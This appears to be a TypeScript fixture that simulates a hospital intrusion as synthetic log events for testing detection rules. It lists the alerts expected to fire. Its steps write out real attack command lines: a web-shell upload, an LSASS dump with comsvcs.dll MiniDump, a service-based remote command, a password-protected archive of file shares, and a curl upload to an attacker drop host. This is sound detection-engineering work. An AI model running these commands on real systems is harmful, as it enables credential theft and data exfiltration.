// SPDX-License-Identifier: Apache-2.0
/** The same person is a doctor of the hospital: a VPN without a second factor, a portal that takes any upload. */
import { syslogOf } from "../logs/unix.ts";
import { visitOf } from "../logs/web.ts";
import { connectionOf, fileOf, logonOf, serviceOf } from "../logs/windows.ts";
import { fullName, HOSPITAL, hostOf } from "../sector/index.ts";
import { CMD, type ExpectedAlert, type Step, SYSTEM32, seat, THEIRS } from "./step.ts";

const WEB = "hosp-web-01";
const FILES = "hosp-fs-01";
const VPN = "hosp-vpn";
const PROXY = "hosp-proxy";
const LENT = "10.30.250.17";
const W3WP = `${SYSTEM32}inetsrv\\w3wp.exe`;
const web = seat(HOSPITAL, WEB, "IIS APPPOOL\\Portal");
const files = seat(HOSPITAL, FILES, "adm-tang");
const CURL = `${SYSTEM32}curl.exe`;
const ARCHIVE = "C:\\Windows\\Temp\\p1.7z";

function vpn(minute: number, message: string): Step {
  return {
    minute,
    member: HOSPITAL,
    source: "vpn",
    write: (at) => syslogOf({ member: HOSPITAL, host: VPN, at }, "vpnd", message),
  };
}

function asked(minute: number, request: string, status: number): Step {
  return {
    minute,
    member: HOSPITAL,
    source: "web",
    write: (at) =>
      visitOf({ member: HOSPITAL, host: PROXY, at }, { from: LENT, request, status, bytes: 312 }),
  };
}

export const HOSPITAL_STEPS: readonly Step[] = [
  vpn(48, `user h.gu signed in from ${THEIRS.control} with password, address ${LENT}`),
  asked(57.9, "POST /profile/avatar", 200),
  web.step(58, (at) =>
    fileOf(
      { member: HOSPITAL, host: WEB, at },
      { image: W3WP, path: "C:\\inetpub\\portal\\uploads\\avatar_1187.aspx" },
    ),
  ),
  asked(59.9, "POST /uploads/avatar_1187.aspx", 200),
  web.starts(60, { image: CMD, commandLine: "cmd.exe /c whoami & hostname", parent: W3WP }),
  web.starts(63, {
    image: `${SYSTEM32}net.exe`,
    commandLine: 'net  group "Domain Admins" /domain',
    parent: CMD,
  }),
  web.starts(75, {
    image: `${SYSTEM32}rundll32.exe`,
    commandLine:
      "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 684 C:\\Windows\\Temp\\w.bin full",
    parent: CMD,
  }),
  files.step(85, (at) =>
    logonOf(
      { member: HOSPITAL, host: FILES, at },
      { user: "adm-tang", kind: 3, from: hostOf(HOSPITAL, WEB).ip },
    ),
  ),
  files.step(85.5, (at) =>
    serviceOf(
      { member: HOSPITAL, host: FILES, at },
      { name: "WinUpd", path: "%COMSPEC% /C dir D:\\shares ^> C:\\Windows\\Temp\\o.txt" },
    ),
  ),
  files.starts(92, {
    image: "C:\\Program Files\\7-Zip\\7z.exe",
    commandLine: `7z.exe a -mhe -pNotReal ${ARCHIVE} D:\\shares\\suppliers`,
    parent: CMD,
  }),
  files.starts(98, {
    image: CURL,
    commandLine: `curl.exe -s -T ${ARCHIVE} https://${THEIRS.dropName}/in/`,
    parent: CMD,
  }),
  files.step(98.1, (at) =>
    connectionOf(
      { member: HOSPITAL, host: FILES, at },
      { image: CURL, user: "adm-tang", to: THEIRS.drop, port: 443 },
    ),
  ),
  vpn(104, `user h.gu signed out, address ${LENT}, 318 kB in, 212640 kB out`),
];

function expect(host: string, ...rules: readonly string[]): ExpectedAlert[] {
  return rules.map((name) => ({
    member: HOSPITAL,
    rule: `windows/${name}`,
    entity: fullName(HOSPITAL, host),
  }));
}

export const HOSPITAL_ALERTS: readonly ExpectedAlert[] = [
  ...expect(
    WEB,
    "script-written-to-web-folder",
    "web-server-starts-shell",
    "domain-admins-listed",
    "lsass-dumped",
  ),
  {
    member: HOSPITAL,
    rule: "network/script-among-uploads-requested",
    entity: fullName(HOSPITAL, PROXY),
  },
  ...expect(FILES, "service-runs-command", "archive-with-password", "copied-to-cloud-storage"),
];
